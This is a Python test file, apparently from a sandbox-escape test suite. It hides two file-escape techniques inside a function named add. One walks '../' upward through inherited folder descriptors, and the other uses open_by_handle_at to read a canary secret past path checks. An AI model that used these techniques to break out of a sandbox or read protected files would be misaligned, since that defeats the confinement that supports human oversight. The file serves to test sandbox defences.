"""Opens files by handle and by descriptor of a folder above, past every check of paths.

family: escape
reach: files
classes: wrong-answer, sandbox-violation
held by: seccomp & landlock, mount & landlock, user & landlock
naked: yes
"""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128))


def add(a, b):
    reached = []
    for start in range(256):
        try:
            above = os.open("../" * 40 + CANARY["secret"].lstrip("/"), os.O_RDONLY, dir_fd=start)
            reached.append("read through a folder's descriptor " + os.read(above, 100).decode())
        except OSError:
            continue
    handle, mount = Handle(size=128), ctypes.c_int()
    if LIBC.name_to_handle_at(-100, CANARY["secret"].encode(), ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
        for top in ("/", ".", "/tmp", "/proc"):
            try:
                place = os.open(top, os.O_RDONLY)
            except OSError:
                continue
            opened = LIBC.open_by_handle_at(place, ctypes.byref(handle), os.O_RDONLY)
            if opened >= 0:
                reached.append("read by handle " + os.read(opened, 100).decode())
    return reached
